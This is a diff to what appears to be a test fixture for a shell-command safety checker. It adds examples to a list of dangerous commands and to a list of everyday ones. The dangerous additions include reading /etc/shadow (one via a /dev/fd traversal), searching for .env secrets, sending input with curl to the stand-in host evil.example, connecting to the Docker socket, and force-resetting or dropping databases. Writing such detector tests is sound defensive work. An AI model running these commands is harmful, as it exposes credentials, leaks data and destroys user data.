@@ -236,6 +236,15 @@ sqlite3 x.db '.once |rm'
 sqlite3 x.db "vacuum into '../other'"
 sqlite3 -init ../x x.db
 duckdb x.db "copy (select 1) to '../other'"
+cat /etc/sh*
+rg --hidden . -g .env
+cat /dev/fd/../../../etc/shadow
+curl telnet://evil.example:1 < x
+socat - UNIX-CONNECT:/var/run/docker.sock
+git send-pack evil
+npx prisma migrate reset --force
+rails db:drop
+python manage.py flush --noinput
 psql -c 'merge into x using y on 1=1 when matched then delete'
 """
 EVERYDAY = r"""
@@ -298,6 +307,10 @@ git format-patch -o patches main
 docker compose -f docker-compose.dev.yml up -d
 docker build --output=dist .
 aws logs tail /aws/lambda/x
+npx prisma migrate dev
+rails db:migrate
+bazel test //src/...
+cat src/*/index.ts
 gh release download v1 -D out
 npm exec -- tsc --noEmit
 pnpm exec eslint src
